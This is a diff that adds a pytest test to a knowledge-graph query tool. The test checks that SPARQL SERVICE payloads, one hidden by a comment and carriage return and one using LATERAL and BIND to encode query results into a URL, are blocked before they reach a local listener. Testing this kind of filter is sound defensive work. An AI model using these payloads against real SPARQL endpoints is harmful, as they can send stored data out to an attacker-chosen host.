@@ -430,3 +430,38 @@ def test_random_mixes_of_the_tricks_never_reach_the_listener(ox_kg, listener):
             pass
         assert listener.hits == [], text
     assert live >= 40, live    # enough of the mixes do reach the network on the bare engine
+
+
+def test_the_issue_payloads_on_a_generated_dataset_where_auto_picks_oxigraph(tmp_path, listener):
+    # 20,000 facts: `auto` holds the graph in an on-disk Oxigraph store in the build cache
+    import subprocess
+    import sys
+
+    sys.path.insert(0, str(ROOT / "bench"))
+    from generate import generate
+
+    from kgbuilder.graph.store import AUTO_THRESHOLD
+
+    data = tmp_path / "data"
+    generate(AUTO_THRESHOLD, data)
+    payloads = {
+        "cr": f"SELECT * WHERE {{ # c\r SERVICE <{listener.url}> {{ ?s ?p ?o }} \n}}",
+        "lateral": f"SELECT * WHERE {{ ?s ?p ?o BIND(IRI(CONCAT(\"{listener.url}?\", ENCODE_FOR_URI(STR(?o)))) "
+                      "AS ?u) LATERAL { SERVICE ?u { ?a ?b ?c } } } LIMIT 3",
+    }
+    q = tmp_path / "q.rq"
+    q.write_bytes(payloads["cr"].encode())
+    # in a process of its own, as a user runs it (a process opens an on-disk store once)
+    r = subprocess.run([str(Path(sys.executable).with_name("kgbuilder")), "query", str(data), "-f", str(q)],
+                       capture_output=True, text=True, timeout=600)
+    assert (r.returncode, r.stdout) == (1, ""), r.stderr
+    assert r.stderr == f"Error: {q}: SERVICE <{listener.url}> is not allowed: {NETWORK}\n"
+    import kgbuilder
+
+    kg = kgbuilder.open_graph(data)
+    assert kg.store.name == "oxigraph" and kg.store.path is not None
+    assert raw_engine_calls(kg, payloads["lateral"], listener)      # live on the bare engine
+    listener.hits.clear()
+    with pytest.raises(UnsafeQueryError):
+        execute(kg, payloads["lateral"], timeout=None)
+    assert listener.hits == []
